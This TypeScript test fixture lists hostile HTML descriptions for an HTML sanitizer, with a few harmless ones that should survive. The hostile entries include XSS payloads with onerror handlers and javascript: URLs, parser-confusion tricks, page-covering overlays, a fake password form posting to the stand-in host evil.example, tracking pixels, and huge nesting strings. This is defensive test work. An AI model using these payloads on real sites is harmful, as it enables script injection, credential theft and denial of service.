/** Descriptions that want to run, load, submit or cover something. Test data: none of them is ours, all are of public kinds. */

const evil = 'https://evil.example';
const cover = 'position:fixed;inset:0;z-index:99999;width:100vw;height:100vh;background:#f00';
const library = `/files/media/${'a'.repeat(43)}.webp`;
const repeated = (part: string, times: number) => part.repeat(times);

/** name → HTML. */
export const hostileDescriptions: Readonly<Record<string, string>> = {
  // Values that look like tags and attributes
  'a tag in alt': `<img src="${evil}/a.jpg" alt="<img src=x style=${cover}>">`,
  'a source in alt': `<img alt="a src=" src="${evil}/ style=${cover} onerror=alert(1) x=">`,
  'a source in alt, quoted otherwise': `<img alt='a src=' src='${evil}/"style="${cover}"onerror="alert(1)'>`,
  'a source at the end of a title': `<a title=" src=" href="${evil}/ onmouseover=alert(1) style=${cover}">x</a><img alt=" src=" src="${evil}/b onload=alert(1)">`,
  'a picture in the title of a link': `<a href="${evil}" title='<img src="x" onerror="alert(1)">'>x</a>`,
  'a bracket in alt': `<img alt="a>b" src="${evil}/a.jpg" style="${cover}">`,
  'brackets in alt and a tag after them': `<img alt="--></p><div style='${cover}'>" src="${evil}/a.jpg">`,
  'written entities in alt': `<img alt="&quot; onerror=&quot;alert(1)" src="${evil}/a.jpg">`,
  'a source with quotes': `<img src="${evil}/a&quot; style=&quot;${cover}">`,
  'a source of our library in a value': `<img alt=' src="${library}" onerror="alert(1)' src="${evil}/a.jpg">`,
  'grave accents as quotes': '<img src=`x` onerror=`alert(1)` alt=``>',
  'no quotes and a slash': `<img/src=${evil}/a.jpg/onerror=alert(1)/style=${cover}>`,
  'attributes given twice': `<img src="${evil}/a.jpg" src="javascript:alert(1)" style="color:red" style="${cover}">`,
  'an end tag with attributes': `<p>x</p style="${cover}" onclick="alert(1)">`,
  'an unclosed quote': `<img src="${evil}/a.jpg" alt="x><p style='${cover}'>y</p><script>alert(1)</script>`,
  'an unclosed tag': `<p>x</p><div style="${cover}" onmouseover="alert(1)"`,
  'a NUL in a tag': '<scr\0ipt>alert(1)</scr\0ipt><img src\0="x" onerror\0="alert(1)">',
  // Styles
  'a fixed box': `<div style="${cover}">Sign in again</div>`,
  'a fixed box, written out': '<div style="position&#58;fixed;in\\73 et:0;posi\\74ion:fixed">x</div>',
  'a comment in a style': '<div style="position/**/:/**/fixed;color:re/**/d;top:0">x</div>',
  'an important style': '<div style="position:fixed!important;color:red !important;z-index:9!important">x</div>',
  'an expression': '<div style="width:expression(alert(1));color:expression(alert(1));behavior:url(#x)">x</div>',
  'addresses in styles': `<div style="background:url(${evil}/a);list-style-image:url('${evil}/b');cursor:url(${evil}/c),auto">x</div>`,
  'an address for a color': `<span style="color:url(${evil}/a)">x</span><span style="color:rgb(url(${evil}))">y</span>`,
  'a variable': '<div style="--p-color-bg:red;color:var(--p-color-bg);--p-z-index-1:99999">x</div>',
  'a margin out of the box': '<div style="margin:-9999px;transform:scale(99);position:absolute;left:-50vw">x</div>',
  'a huge word': '<p style="font-size:9999px;line-height:999;letter-spacing:999px">x</p>',
  'a style that ends itself': '<p style="color:red}body{display:none}">x</p><p style="color:red;}*{position:fixed}">y</p>',
  'a style element': '<style>body{display:none}*{position:fixed}</style><p>x</p>',
  'a style in a style': `<style><style>*{background:url(${evil})}</style></style><p>x</p>`,
  'an import of styles': `<style>@import '${evil}/a.css';</style><link rel=stylesheet href=${evil}/b.css>`,
  'classes of the app': `<div class="Polaris-Modal-Dialog Polaris-Backdrop Polaris-Sheet__Container Entry-Alert Detail-Section" data-polaris-layer>x</div>`,
  'classes and an id on allowed tags': '<p class="Polaris-Backdrop" id="app">x</p><td class="Polaris-Backdrop">y</td>',
  // Scripts and addresses
  'a script': '<script>alert(1)</script><p>x</p>',
  'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script without an end': '<p>x</p><script>alert(1)',
  'a javascript address': '<a href="javascript:alert(1)">x</a><img src="javascript:alert(1)">',
  'a javascript address, in pieces':
    '<a href="java\nscript:alert(1)">x</a><a href="java\tscript:alert(1)">y</a><a href="\x01javascript:alert(1)">z</a>',
  'a javascript address, written out': '<a href="&#106;&#97;vascript&colon;alert(1)">x</a><a href="java&Tab;script&#x3A;alert(1)">y</a>',
  'a data address': `<a href="data:text/html,<script>alert(1)</script>">x</a><img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  'a data address, written out': '<a href="d&#97;ta:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'other schemes': '<a href="vbscript:msgbox(1)">x</a><a href="file:///etc/passwd">y</a><a href="blob:https://evil.example/1">z</a>',
  'an address without a scheme': '<a href="//evil.example/x">x</a><img src="//evil.example/x.jpg"><a href="\\\\evil.example\\x">y</a>',
  'addresses into our pages':
    '<a href="/signout">x</a><a href="app/setting">y</a><img src="/signout"><img src="/api/auth/account"><img src="/files/media/../../ops">',
  'a link that opens': `<a href="${evil}" target="_self" rel="opener" ping="${evil}/ping" download>x</a>`,
  'handlers of all kinds':
    '<p onclick="alert(1)" onpointerrawupdate="alert(1)" onbeforetoggle="alert(1)" oncontentvisibilityautostatechange="alert(1)" style="content-visibility:auto">x</p>',
  'what can be focused': '<p tabindex="1" autofocus onfocus="alert(1)" contenteditable accesskey="x" popover>x</p>',
  // Elements that load, submit or go elsewhere
  'sources in a set': `<img srcset="${evil}/a.jpg 1x, ${evil}/b.jpg 2x" src="${evil}/a.jpg" sizes="100vw">`,
  'a picture with sources': `<picture><source srcset="${evil}/a.webp"><img src="${evil}/a.jpg"></picture>`,
  'a picture that only counts who looks': `<img src="${evil}/pixel.gif?who=1" width="1" height="1"><img src="http://evil.example/pixel.gif">`,
  'a huge picture': `<img src="${evil}/a.jpg" width="999999999" height="1e9" style="width:9999px">`,
  'a base': `<base href="${evil}/" target="_top"><a href="x">x</a>`,
  'a meta refresh': `<meta http-equiv="refresh" content="0;url=${evil}"><meta charset="utf-7">`,
  'a meta policy': `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
  'links that load': `<link rel="preload" as="image" href="${evil}/a"><link rel="dns-prefetch" href="//evil.example"><link rel="icon" href="${evil}/i">`,
  'a form over the page': `<form action="${evil}" style="${cover}"><input name="password" type="password" autofocus><button>Sign in</button></form>`,
  'controls without a form': `<input type="image" src="${evil}/a.jpg" form="x" formaction="${evil}"><button formaction="javascript:alert(1)">x</button><select><option>y</option></select><textarea>z</textarea>`,
  'a label for another field': '<label for="search">x</label><output form="x">y</output><isindex>',
  frames: `<iframe src="${evil}" style="${cover}"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe><frameset><frame src="${evil}"></frameset>`,
  objects: `<object data="${evil}/a.swf"><embed src="${evil}/b.swf"></object><applet code="x"></applet>`,
  media: `<video src="${evil}/a.mp4" autoplay poster="${evil}/p.jpg" onerror="alert(1)"></video><audio src="${evil}/a.mp3" autoplay><track src="${evil}/t"></audio>`,
  'details that open': '<details open ontoggle="alert(1)"><summary>x</summary>y</details><dialog open>z</dialog>',
  'a marquee': '<marquee onstart="alert(1)" behavior="alternate">x</marquee><blink>y</blink>',
  'a body': `<body onload="alert(1)" background="${evil}/a.jpg"><html style="${cover}"><head><title>x</title></head><p>y</p></body>`,
  'a background': `<table background="${evil}/a.jpg" border="999" width="100000"><tr><td background="${evil}/b.jpg" bgcolor="red" nowrap>x</td></tr></table>`,
  'a map over a picture': `<img src="${evil}/a.jpg" usemap="#m" ismap><map name="m"><area shape="default" href="javascript:alert(1)"></map>`,
  'names that take over': `<a id="location" name="document" href="${evil}">x</a><img name="body" id="getElementById" src="${evil}/a.jpg"><form id="forms"></form>`,
  'prototypes as attributes': '<p __proto__="x" constructor="y" prototype="z">x</p>',
  'elements of our own':
    '<s-modal open>x</s-modal><ui-modal id="m"></ui-modal><ui-nav-menu><a href="/signout">y</a></ui-nav-menu><x-a is="x"></x-a>',
  'slots and shadows': `<div><template shadowrootmode="open"><style>:host{position:fixed;inset:0}</style><slot></slot></template>x</div>`,
  // Other namespaces, and what is read otherwise the second time
  'a drawing': '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
  'a drawing that moves an address':
    '<svg><a><animate attributeName="href" values="#a;javascript:alert(1)"></animate><text>x</text></a></svg>',
  'a drawing with a page in it': `<svg><foreignObject><p style="${cover}">x</p><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  'a style in a drawing': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'a formula': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a form in a form in a formula': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'a formula that is an address': '<math href="javascript:alert(1)">x</math><math><a xlink:href="javascript:alert(1)">y</a></math>',
  'annotations as HTML': '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  'noscript read in two ways': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'noscript around a style': '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  'elements whose words are raw':
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  'a title read in two ways':
    '<title><a id="</title><img src=x onerror=alert(1)>"></title><textarea><a title="</textarea><script>alert(1)</script>">',
  plaintext: '<plaintext><script>alert(1)</script></plaintext><p>x</p>',
  'a template': '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  'a select with a script': '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  'a comment without an end': `<p>x</p><!-- <div style="${cover}"><script>alert(1)</script>`,
  'comments that end in two ways':
    '<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>--!><!---><script>alert(1)</script>-->',
  'a conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if true]><script>alert(1)</script><![endif]>',
  CDATA: '<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
  'instructions and types': `<?xml version="1.0"?><?import namespace="t"?><!DOCTYPE html [<!ENTITY x SYSTEM "${evil}">]><p>&x;</p>`,
  'entities that look like tags': '<p>&lt;img src=x onerror=alert(1)&gt;</p>&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;script&amp;gt;',
  // Out of the box
  'a table in a table': '<table><div>a<table></table></div></table></div></div></div>out of the box',
  'end tags that were never begun': `</div></div></section></main></body></html><div style="${cover}">out of the box</div>`,
  'links in links and tables': `<table><a href="${evil}"><tr><td><a href="${evil}">x</td></tr></a></table><a href="${evil}"><table><a href="${evil}">`,
  'formatting that goes on': '<b><i><u><s><code><p>x<table><b><i><u>y</table></div>everything bold from here',
  'cells without a table': '<td>a</td><tr><th>b</th></tr><caption>c</caption><col span="9999"><li>d',
  'a table of thousands of columns': `<table><colgroup><col span="99999"></colgroup><tr><td colspan="99999" rowspan="65534">x</td></tr></table>`,
  'a word without an end': `<p>${repeated('W', 5000)}</p><pre>${repeated('W', 5000)}</pre><table><tr><td>${repeated('W', 3000)}</td></tr></table>`,
  'letters in towers': `<p>${repeated(`e${repeated('\u0301', 50)}`, 100)}</p>`,
  'directions that turn': `<p>\u202e\u202e\u2066evil</p><bdo dir="rtl">x</bdo><p dir="rtl">y</p>`,
  // Too much
  'lists as deep as a well': `${repeated('<ul><li>', 50_000)}x`,
  'boxes a hundred thousand deep': `${repeated('<div>', 100_000)}x${repeated('</div>', 100_000)}`,
  'quotes as deep as a well, all closed': `${repeated('<blockquote>', 5000)}x${repeated('</blockquote>', 5000)}`,
  'formatting closed in the wrong order': `${repeated('<i>', 100_000)}x${repeated('</b>', 100_000)}`,
  'formatting that is repeated': `<p>${Array.from({ length: 50 }, (_, n) => `<b style="color:#${100 + n}">`).join('')}${repeated('<div>a</div>', 9000)}</p>`,
  'a hundred thousand signs': repeated('<', 300_000),
  'a hundred thousand tags that begin': repeated('<a ', 100_000),
  'a hundred thousand values that begin': repeated('<a b="', 100_000),
  'a hundred thousand comments': repeated('<!--', 100_000),
  'many attributes': `<p ${Array.from({ length: 50_000 }, (_, n) => `a${n}="${n}"`).join(' ')}>x</p>`,
  'many styles': `<p style="${repeated('color:red;position:fixed;', 30_000)}">x</p>`,
  'signs that are written out': repeated('&"<>', 120_000),
};

/** The same kinds of a seller's and a supplier's good work, which stay. */
export const harmlessDescriptions: readonly string[] = [
  '<h2>Size</h2><table><tbody><tr><td colspan="2">M &amp; L</td></tr></tbody></table><p style="text-align:center">Wash at 30°</p>',
  `<p>3 &lt; 4, "quoted", it's</p><img src="https://cf.example/a.jpg?x=1&amp;y=2" alt="a &gt; b" width="300" height="200" />`,
  `<ul><li><strong style="color:#c00">New</strong></li><li><a href="https://e.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">Care</a></li></ul>`,
  `<figure><img src="${library}" alt="A" /><figcaption>As worn</figcaption></figure><hr /><pre><code>a  b</code></pre>`,
];
